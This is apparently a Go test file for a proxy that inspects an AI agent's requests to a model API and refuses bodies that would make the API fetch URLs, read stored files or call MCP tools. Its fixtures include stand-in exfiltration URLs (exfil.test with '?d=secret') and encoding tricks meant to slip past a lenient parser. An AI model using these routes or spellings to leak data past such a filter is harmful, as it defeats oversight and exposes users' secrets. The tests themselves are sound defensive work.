package netd

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/aboxhq/abox/internal/policy"
)

// fetchBody is a Messages request whose one user message has content.
func fetchBody(content string) string {
	return `{"model":"claude-test-1","max_tokens":10,"messages":[{"role":"user","content":[` + content + `]}]}`
}

const (
	urlImage    = `{"type":"image","source":{"type":"url","url":"http://exfil.test/i.png?d=secret"}}`
	urlDocument = `{"type":"document","source":{"type":"url","url":"http://exfil.test/d.pdf?d=secret"}}`
	b64Image    = `{"type":"image","source":{"type":"base64","media_type":"image/png","data":"aHR0cDovL2V4ZmlsLnRlc3QvP2Q9c2VjcmV0"}}`
)

// fetchCases are bodies that would have the API's servers fetch or read something netd never
// sees, each with the path its refusal names. They cover every place a block may sit, every
// kind of fetch the API documents, and the spellings a lenient parser might still read.
var fetchCases = []struct{ name, body, path string }{
	{"image URL source", fetchBody(urlImage), "messages[0].content[0].source.type"},
	{"document URL source", fetchBody(urlDocument), "messages[0].content[0].source.type"},
	{"URL source in a tool result", fetchBody(`{"type":"tool_result","tool_use_id":"t1","content":[{"type":"text","text":"x"},` + urlImage + `]}`),
		"messages[0].content[0].content[1].source.type"},
	{"URL source in the system prompt", `{"model":"m","max_tokens":1,"system":[{"type":"text","text":"x"},` + urlImage + `],"messages":[]}`,
		"system[1].source.type"},
	{"URL source in a document's content", fetchBody(`{"type":"document","source":{"type":"content","content":[` + urlImage + `]}}`),
		"messages[0].content[0].source.content[0].source.type"},
	{"URL source deep in a tool input", fetchBody(`{"type":"tool_use","id":"t","name":"x","input":{"a":[[{"b":` + urlImage + `}]]}}`),
		"messages[0].content[0].input.a[0][0].b.source.type"},
	{"URL source in an assistant turn", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hi"},{"role":"assistant","content":[` + urlDocument + `]}]}`,
		"messages[1].content[0].source.type"},
	{"Files API image", fetchBody(`{"type":"image","source":{"type":"file","file_id":"file_011"}}`), "messages[0].content[0].source.type"},
	{"Files API document", fetchBody(`{"type":"document","source":{"type":"file","file_id":"file_011"}}`), "messages[0].content[0].source.type"},
	{"container upload", fetchBody(`{"type":"container_upload","file_id":"file_011"}`), "messages[0].content[0].type"},
	{"server tool use replayed", fetchBody(`{"type":"server_tool_use","id":"s","name":"web_fetch","input":{"url":"http://exfil.test/"}}`), "messages[0].content[0].type"},
	{"web fetch result replayed", fetchBody(`{"type":"web_fetch_tool_result","tool_use_id":"s","content":{"type":"web_fetch_result","url":"http://exfil.test/"}}`), "messages[0].content[0].type"},
	{"MCP tool use", fetchBody(`{"type":"mcp_tool_use","id":"m","name":"x","server_name":"s","input":{}}`), "messages[0].content[0].type"},
	{"MCP toolset added mid-conversation", fetchBody(`{"type":"tool_addition","tool":{"type":"mcp_toolset_reference","server_name":"s"}}`), "messages[0].content[0].tool.type"},
	{"type in capitals", fetchBody(`{"type":"image","source":{"type":"URL","url":"http://exfil.test/"}}`), "messages[0].content[0].source.type"},
	{"type padded and split", fetchBody(`{"type":"image","source":{"type":" u\u0000r-l ","url":"http://exfil.test/"}}`), "messages[0].content[0].source.type"},
	{"type unicode-escaped", fetchBody(`{"type":"image","source":{"type":"\u0075\u0072\u006c","url":"http://exfil.test/"}}`), "messages[0].content[0].source.type"},
	{"type key unicode-escaped", fetchBody(`{"type":"image","source":{"\u0074ype":"url","\u0075rl":"http://exfil.test/"}}`), "messages[0].content[0].source.type"},
	{"type key in another case", fetchBody(`{"type":"image","source":{"TYPE":"url","url":"http://exfil.test/"}}`), "messages[0].content[0].source.TYPE"},
	{"type key with a lone surrogate", fetchBody(`{"type":"image","source":{"typ\ud800e":"url","url":"http://exfil.test/"}}`), "messages[0].content[0].source.\"typ\ufffde\""},
	{"second type key in another case", fetchBody(`{"type":"image","source":{"type":"base64","Type":"url","url":"http://exfil.test/"}}`), "messages[0].content[0].source.Type"},
	{"a source type netd does not know", fetchBody(`{"type":"image","source":{"type":"s3","bucket":"b"}}`), "messages[0].content[0].source"},
	{"a source without a type", fetchBody(`{"type":"document","source":{"url":"http://exfil.test/"}}`), "messages[0].content[0].source"},
	{"a source that is a string", fetchBody(`{"type":"image","source":"http://exfil.test/"}`), "messages[0].content[0].source"},
	{"a source key in another case", fetchBody(`{"type":"image","Source":{"type":"s3"}}`), "messages[0].content[0].Source"},
	{"a block type in capitals", fetchBody(`{"type":"IMAGE","source":{"type":"gcs"}}`), "messages[0].content[0].source"},
	{"the type after the source", fetchBody(`{"source":{"type":"s3"},"type":"document"}`), "messages[0].content[0].source"},
}

// fetchPasses are bodies with nothing fetched: data carried in the body, URLs as mere text.
var fetchPasses = []struct{ name, body string }{
	{"base64 image carrying a URL", fetchBody(b64Image)},
	{"text document", fetchBody(`{"type":"document","source":{"type":"text","media_type":"text/plain","data":"see http://exfil.test/"}}`)},
	{"content document with a base64 image", fetchBody(`{"type":"document","source":{"type":"content","content":[{"type":"text","text":"x"},` + b64Image + `]}}`)},
	{"search result citing a URL", fetchBody(`{"type":"search_result","source":"https://exfil.test/a","title":"t","content":[{"type":"text","text":"x"}]}`)},
	{"web fetch tool of Claude Code's own", fetchBody(`{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://exfil.test/","prompt":"read"}}`)},
	{"tool result with an image", fetchBody(`{"type":"tool_result","tool_use_id":"t","content":[` + b64Image + `]}`)},
	{"schemas naming urls", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"x","input_schema":{"type":"object","properties":{"url":{"type":"string","format":"uri"},"source":{"type":"object"}}}}]}`},
	{"url and file as mere text", fetchBody(`{"type":"text","text":"{\"type\":\"url\",\"url\":\"http://exfil.test/\"}"}`)},
	{"a type that only starts like one", fetchBody(`{"type":"text","text":"x","kind":{"type":"urls"}}`)},
	{"numbers", `{"model":"m","max_tokens":1e3,"temperature":0.5,"messages":[{"role":"user","content":[{"type":1,"source":{"type":2}}]}]}`},
}

// TestFindFetch: the walk finds each fetch wherever it sits and names the field that caused
// it, and lets through what the API reads from the body itself.
func TestFindFetch(t *testing.T) {
	for _, c := range fetchCases {
		if err := checkJSONKeys([]byte(c.body), maxModelJSONDepth); err != nil || !json.Valid([]byte(c.body)) {
			t.Fatalf("%s: not a valid body: %v", c.name, err)
		}
		f := findFetch([]byte(c.body))
		if f == nil || f.path != c.path {
			t.Errorf("%s: findFetch = %+v, want a refusal at %s", c.name, f, c.path)
		}
	}
	for _, c := range fetchPasses {
		if f := findFetch([]byte(c.body)); f != nil {
			t.Errorf("%s: refused at %s (%s), want it passed", c.name, f.path, f.what)
		}
	}
}

// TestModelForwarderRefusesFetches: a body that would have the API's servers fetch a URL (an
// image or document source, in a message, a tool result, the system prompt; on the Messages
// API and its token counter) or read a stored file never reaches the upstream: the agent gets
// a 403 naming the field, the log a denial naming it too. Bodies with nothing fetched pass, and
// with server tools allowed, so do the fetches.
func TestModelForwarderRefusesFetches(t *testing.T) {
	up := newModelUpstream(t, func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "{}") })
	base, log := serverToolsForwarder(t, up, false)
	for _, path := range []string{"/v1/messages", "/v1/messages/count_tokens"} {
		for _, c := range fetchCases {
			resp := agentRequest(t, "POST", base+path, c.body)
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			var apiErr struct {
				Error struct{ Type, Message string }
			}
			if resp.StatusCode != http.StatusForbidden || json.Unmarshal(body, &apiErr) != nil ||
				apiErr.Error.Type != "permission_error" || !strings.Contains(apiErr.Error.Message, c.path) {
				t.Errorf("%s %s: status %d, body %s; want 403 naming %s", path, c.name, resp.StatusCode, body, c.path)
			}
		}
	}
	if seen := up.requests(); len(seen) != 0 {
		t.Fatalf("the upstream received %d refused requests, the first: %s", len(seen), seen[0].Body)
	}
	recs := modelRecords(t, log)
	if len(recs) != 2*len(fetchCases) {
		t.Fatalf("%d records for %d refusals", len(recs), 2*len(fetchCases))
	}
	for i, r := range recs {
		c := fetchCases[i%len(fetchCases)]
		if r.Verdict != policy.Denied || r.Status != http.StatusForbidden || !strings.Contains(r.Reason, c.path) {
			t.Errorf("%s: record %+v, want denied 403 naming %s", c.name, r, c.path)
		}
	}
	for _, c := range fetchPasses {
		resp := agentRequest(t, "POST", base+"/v1/messages", c.body)
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Errorf("%s: status %d, want 200", c.name, resp.StatusCode)
		}
	}
	// What netd cannot read as the API might is refused before the walk: a duplicate type in
	// a source, and sources nested past netd's depth bound.
	deep := strings.Repeat(`{"type":"document","source":{"type":"content","content":[`, 200) + urlImage + strings.Repeat(`]}}`, 200)
	for _, body := range []string{fetchBody(`{"type":"image","source":{"type":"base64","type":"url","url":"http://exfil.test/"}}`), fetchBody(deep)} {
		resp := agentRequest(t, "POST", base+"/v1/messages", body)
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%.80s…: status %d, want 400", body, resp.StatusCode)
		}
	}
	if n := len(up.requests()); n != len(fetchPasses) {
		t.Errorf("the upstream received %d requests, want the %d that pass", n, len(fetchPasses))
	}
	up2 := newModelUpstream(t, func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "{}") })
	allowed, _ := serverToolsForwarder(t, up2, true)
	for _, c := range fetchCases {
		resp := agentRequest(t, "POST", allowed+"/v1/messages", c.body)
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Errorf("server tools allowed, %s: status %d, want 200", c.name, resp.StatusCode)
		}
	}
}

// TestModelForwarderReadsBodiesAsJSON: a GET with a body is refused (no path of the API reads
// one, and netd checks only what it reads), and a body goes upstream labelled as the JSON netd
// read, whatever type and charset the agent named for it.
func TestModelForwarderReadsBodiesAsJSON(t *testing.T) {
	up := newModelUpstream(t, func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "{}") })
	base, _ := serverToolsForwarder(t, up, false)
	resp := agentRequest(t, "GET", base+"/v1/models", fetchBody(urlImage))
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("GET with a body: status %d, want 400", resp.StatusCode)
	}
	req, _ := http.NewRequest("POST", base+"/v1/messages", strings.NewReader(fetchBody(b64Image)))
	req.Header.Set("Content-Type", "multipart/form-data; boundary=x; charset=utf-16")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	seen := up.requests()
	if resp.StatusCode != http.StatusOK || len(seen) != 1 || seen[0].Header.Values("Content-Type")[0] != "application/json" ||
		len(seen[0].Header.Values("Content-Type")) != 1 {
		t.Errorf("status %d, upstream saw %+v; want only the POST, as application/json", resp.StatusCode, seen)
	}
}

// refFindFetch is the reference for findFetch: the same rules applied to encoding/json's tree
// of the body, so that the in-place walk is checked against a parser's reading of every value.
func refFindFetch(v any) bool {
	switch v := v.(type) {
	case []any:
		for _, x := range v {
			if refFindFetch(x) {
				return true
			}
		}
	case map[string]any:
		block := false
		var sources []any
		for k, x := range v {
			if s, ok := x.(string); ok && keyIs([]byte(k), "type") && len(s) <= maxJSONKey {
				t := normType(make([]byte, 0, maxTypeLen), []byte(s))
				if fetchedType(t) != nil {
					return true
				}
				block = block || string(t) == "image" || string(t) == "document"
			}
			if keyIs([]byte(k), "source") {
				sources = append(sources, x)
			}
			if refFindFetch(x) {
				return true
			}
		}
		for _, src := range sources {
			if block && !refInline(src) {
				return true
			}
		}
	}
	return false
}

func refInline(v any) bool {
	m, ok := v.(map[string]any)
	if !ok {
		return false
	}
	typed := false
	for k, x := range m {
		if !keyIs([]byte(k), "type") {
			continue
		}
		s, ok := x.(string)
		if !ok || !oneOf(string(normType(make([]byte, 0, maxTypeLen), []byte(s))), inlineSources) {
			return false
		}
		typed = true
	}
	return typed
}

// FuzzFindFetch: on a body netd would read (valid JSON, no duplicate keys), findFetch refuses
// exactly what the same rules refuse on encoding/json's reading of it.
func FuzzFindFetch(f *testing.F) {
	for _, c := range fetchCases {
		f.Add([]byte(c.body))
	}
	for _, c := range fetchPasses {
		f.Add([]byte(c.body))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if !json.Valid(data) || checkJSONKeys(data, maxModelJSONDepth) != nil {
			return
		}
		var v any
		dec := json.NewDecoder(bytes.NewReader(data))
		dec.UseNumber() // a number past float64 (1e700) is valid JSON all the same
		if err := dec.Decode(&v); err != nil {
			t.Fatal(err)
		}
		got, want := findFetch(data) != nil, refFindFetch(v)
		if got != want {
			t.Fatalf("findFetch(%q) refuses: %v; the rules on encoding/json's reading say %v", data, got, want)
		}
	})
}
